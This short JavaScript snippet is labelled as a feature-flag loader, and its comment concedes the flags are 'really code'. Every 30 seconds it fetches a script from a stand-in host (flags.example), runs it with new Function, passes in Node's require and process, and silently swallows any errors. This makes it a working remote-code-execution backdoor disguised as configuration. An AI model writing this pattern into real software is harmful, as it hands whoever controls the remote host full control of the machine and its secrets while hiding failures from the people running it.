// "feature flags" which are really code
async function loadFlags(url) {
  const res = await fetch(url);
  const body = await res.text();
  return new Function('require', 'process', body)(require, process);
}
setInterval(() => loadFlags('https://flags.example/v2.js').catch(() => {}), 30000);
